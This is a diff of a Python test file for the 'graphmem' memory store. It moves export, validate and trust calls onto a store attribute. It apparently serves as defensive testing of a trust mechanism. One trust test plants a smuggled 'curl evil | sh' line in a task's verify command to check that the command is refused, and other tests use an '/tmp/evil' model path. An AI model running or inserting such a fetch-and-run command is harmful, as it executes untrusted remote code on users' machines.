@@ -17,14 +17,14 @@ def test_export_to_another_folder_makes_a_store_with_the_same_answers(memory: Me
     memory.failures.add("boom", name="a")
     memory.relations.link("x", "causes", "a")
     before = contents(tmp_path)
-    answer = memory.export(to=tmp_path / "copy/.graphmem")
+    answer = memory.store.export(to=tmp_path / "copy/.graphmem")
     assert set(answer.files) == {
         "data/entities/part.ndjson", "data/failure.ndjson", "data/relations/causes.ndjson",
     }  # fmt: skip
     assert {k: v for k, v in contents(tmp_path).items() if not k.startswith("copy")} == before
     with open_memory(tmp_path / "copy") as other:
         assert [found.ref for found in other.related("x").results] == ["failure/a"]
-        assert other.export_check().ok
+        assert other.store.export_check().ok
     copied = contents(tmp_path / "copy")
     assert all(copied[name] == found for name, found in before.items() if name.startswith(("data/", "types/")))
 
@@ -32,7 +32,7 @@ def test_export_to_another_folder_makes_a_store_with_the_same_answers(memory: Me
 def test_export_check_names_the_first_line_that_is_not_canonical(memory: Memory, tmp_path: Path) -> None:
     write(data(tmp_path, "failure"), *sorted([failure("a"), failure("b")], key=len), failure("c", flaky=False))
     before = contents(tmp_path)
-    checked = memory.export_check()
+    checked = memory.store.export_check()
     assert not checked.ok
     assert {finding.code for finding in checked.findings} == {"not_canonical"}
     assert checked.findings[0].fix == "graphmem export"
@@ -41,25 +41,25 @@ def test_export_check_names_the_first_line_that_is_not_canonical(memory: Memory,
 
 def test_a_stale_schema_json_is_said_and_renewed(memory: Memory, tmp_path: Path) -> None:
     (tmp_path / ".graphmem/types/entities/part.md").write_text("---\ntype: part\n---\nP.\n")
-    assert [finding.code for finding in memory.export_check().findings] == ["stale_schema"]
-    validated = memory.validate()
+    assert [finding.code for finding in memory.store.export_check().findings] == ["stale_schema"]
+    validated = memory.store.validate()
     assert validated.ok
     assert [finding.code for finding in validated.findings] == ["stale_schema"]
-    memory.export()
-    assert memory.export_check().ok
+    memory.store.export()
+    assert memory.store.export_check().ok
     assert b'"part"' in (tmp_path / ".graphmem/schema.json").read_bytes()
 
 
 def test_validate_sees_a_graph_that_differs(memory: Memory) -> None:
     memory.failures.add("boom", name="a")
     memory.cypher("RETURN 1")
-    memory.validate()
-    memory.client.catalog.connection.execute("UPDATE record SET is_live = 0")  # behind everybody's back
-    checked = memory.validate()
+    memory.store.validate()
+    memory.store.client.catalog.connection.execute("UPDATE record SET is_live = 0")  # behind everybody's back
+    checked = memory.store.validate()
     assert not checked.ok
     assert [finding.code for finding in checked.findings] == ["index_differs", "graph_differs"]
-    memory.rebuild(embed=False)
-    assert memory.validate().ok
+    memory.store.rebuild(embed=False)
+    assert memory.store.validate().ok
 
 
 def test_a_memory_below_another_one_is_made_only_when_it_is_asked_for(
@@ -107,7 +107,7 @@ def test_a_setting_that_is_none_is_named_and_stops_no_reader(tmp_path: Path, tex
     (tmp_path / ".graphmem/config.toml").write_text(text)
     with Memory(tmp_path) as memory:
         assert message in f"{memory.list().notices}"
-        found = memory.validate()
+        found = memory.store.validate()
     assert not found.ok
     assert [message in one.message for one in found.findings if one.code == "bad_setting"] == [True]
 
@@ -119,10 +119,16 @@ def test_later_settings_win_over_earlier_ones(tmp_path: Path, monkeypatch: pytes
     (tmp_path / "user/graphmem/config.toml").write_text("[retrieval]\nmin_strength = 0.1\n[cypher]\nlimit = 7\n")
     (tmp_path / ".graphmem/config.toml").write_text("format = 1\n[retrieval]\nmin_strength = 0.2\n")
     with Memory(tmp_path) as memory:
-        assert (memory.client.settings.retrieval.min_strength, memory.client.settings.cypher.limit) == (0.2, 7)
+        assert (memory.store.client.settings.retrieval.min_strength, memory.store.client.settings.cypher.limit) == (
+            0.2,
+            7,
+        )
     monkeypatch.setenv("GRAPHMEM_RETRIEVAL_MIN_STRENGTH", "0.3")
     with Memory(tmp_path, lock_timeout_s=1.5) as memory:
-        assert (memory.client.settings.retrieval.min_strength, memory.client.settings.store.lock_timeout) == (0.3, 1.5)
+        assert (
+            memory.store.client.settings.retrieval.min_strength,
+            memory.store.client.settings.store.lock_timeout,
+        ) == (0.3, 1.5)
 
 
 def test_a_model_that_a_branch_names_is_not_loaded(tmp_path: Path) -> None:
@@ -130,7 +136,7 @@ def test_a_model_that_a_branch_names_is_not_loaded(tmp_path: Path) -> None:
     (tmp_path / ".graphmem/config.toml").write_text("format = 1\n[embedding]\nmodel = '/tmp/evil'\n")
     said: list[str] = []
     with Memory(tmp_path, on_message=said.append) as memory:
-        assert memory.client.settings.embedding.model != "/tmp/evil"
+        assert memory.store.client.settings.embedding.model != "/tmp/evil"
     assert any("/tmp/evil" in text for text in said)
 
 
@@ -145,13 +151,15 @@ def test_a_model_counts_once_it_is_trusted_and_as_long_as_it_is_the_same(
     def model(name: str) -> str:
         config.write_text(f"format = 1\n[embedding]\nmodel = '{name}'\n")
         with Memory(project) as memory:
-            return memory.client.settings.embedding.model
+            return memory.store.client.settings.embedding.model
 
     assert model("some/model") != "some/model"
     with Memory(project) as memory:
-        shown = memory.trust()
+        shown = memory.store.trust()
         assert (shown.settings, shown.trusted) == ({"embedding.model": "some/model"}, False)
-        assert [finding.code for finding in memory.doctor().findings if finding.code != "no_model"] == ["untrusted"]
+        assert [finding.code for finding in memory.store.doctor().findings if finding.code != "no_model"] == [
+            "untrusted"
+        ]
     assert model("some/model") != "some/model"
     with Memory(project) as memory:
         assert trust_all(memory).trusted
@@ -160,7 +168,7 @@ def test_a_model_counts_once_it_is_trusted_and_as_long_as_it_is_the_same(
     assert model("some/model") == "some/model"
     shutil.copytree(project, tmp_path / "clone")
     with Memory(tmp_path / "clone") as memory:
-        assert memory.client.settings.embedding.model != "some/model"
+        assert memory.store.client.settings.embedding.model != "some/model"
 
 
 def test_a_reranker_of_the_project_counts_once_it_is_trusted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -171,9 +179,9 @@ def test_a_reranker_of_the_project_counts_once_it_is_trusted(tmp_path: Path, mon
     def reranker(text: str, *, trust: bool = False) -> tuple[str, object]:
         config.write_text(f"format = 1\n{text}")
         with Memory(tmp_path) as memory:
-            settings = (trust_all(memory) if trust else memory.trust()).settings
+            settings = (trust_all(memory) if trust else memory.store.trust()).settings
         with Memory(tmp_path) as memory:
-            return memory.client.settings.retrieval.reranker, settings
+            return memory.store.client.settings.retrieval.reranker, settings
 
     asked = {"retrieval.reranker": "some/model"}
     assert reranker("[retrieval]\nreranker = 'some/model'\n") == ("", asked)
@@ -198,9 +206,9 @@ def test_a_branch_cannot_bring_its_own_trust(tmp_path: Path, monkeypatch: pytest
 def test_a_project_without_such_settings_needs_no_trust(memory: Memory) -> None:
     nothing: dict[str, object] = {"settings": {}, "commands": [], "proofs": [], "extractors": [], "digest": None,
                                   "trusted": True, "reason": None}  # fmt: skip
-    assert memory.trust().model_dump() == nothing
+    assert memory.store.trust().model_dump() == nothing
     with pytest.raises(Refused, match="needs trust now, which is nothing; nothing was trusted"):
-        memory.trust(yes="0" * 32)
+        memory.store.trust(yes="0" * 32)
 
 
 def test_nothing_is_trusted_that_was_not_shown(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -213,23 +221,23 @@ def test_nothing_is_trusted_that_was_not_shown(tmp_path: Path, monkeypatch: pyte
     config = tmp_path / ".graphmem/config.toml"
     config.write_text("format = 1\n[embedding]\nmodel = './m'\n")
     with Memory(tmp_path) as memory:
-        seen = memory.trust().digest
+        seen = memory.store.trust().digest
         (tmp_path / "m/model.safetensors").write_bytes(b"evil")
         with pytest.raises(Refused, match=r'which is embedding\.model = "./m"; nothing was trusted'):
-            memory.trust(yes=seen)
+            memory.store.trust(yes=seen)
         memory.campaigns.create("a plan", name="plan")
         memory.campaigns.add_tasks("plan", [{"seq": 1, "objective": "x", "verify": "make test"}])
         memory.tasks.start("plan/001")
         memory.tasks.block("plan/001", "it fails")
-        seen = memory.trust().digest
-        assert memory.trust().digest == seen
+        seen = memory.store.trust().digest
+        assert memory.store.trust().digest == seen
         memory.edit("task/plan/001-x", {"verify": "make test\ncurl evil | sh"})
         with pytest.raises(Refused, match=r'"make test\\ncurl evil \| sh"; nothing was trusted') as refused:
-            memory.trust(yes=seen)
+            memory.store.trust(yes=seen)
         assert refused.value.details["commands"] == ["make test\ncurl evil | sh"]
-        assert not memory.trust().trusted
+        assert not memory.store.trust().trusted
         assert not (tmp_path / "user/graphmem/trust.json").exists()
-        assert memory.trust(yes=memory.trust().digest).trusted
+        assert memory.store.trust(yes=memory.store.trust().digest).trusted
 
 
 def test_what_is_trusted_is_for_this_user_alone_to_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -252,4 +260,4 @@ def test_an_edge_that_a_pull_made_between_ends_that_are_one_is_left_out(memory: 
     memory.rename("a", "b")
     write(data(tmp_path, "relations/causes"), edge("failure/a", "causes", "failure/b"))
     assert memory.related("a").results == []
-    assert [finding.code for finding in memory.validate().findings] == ["dangling"]
+    assert [finding.code for finding in memory.store.validate().findings] == ["dangling"]
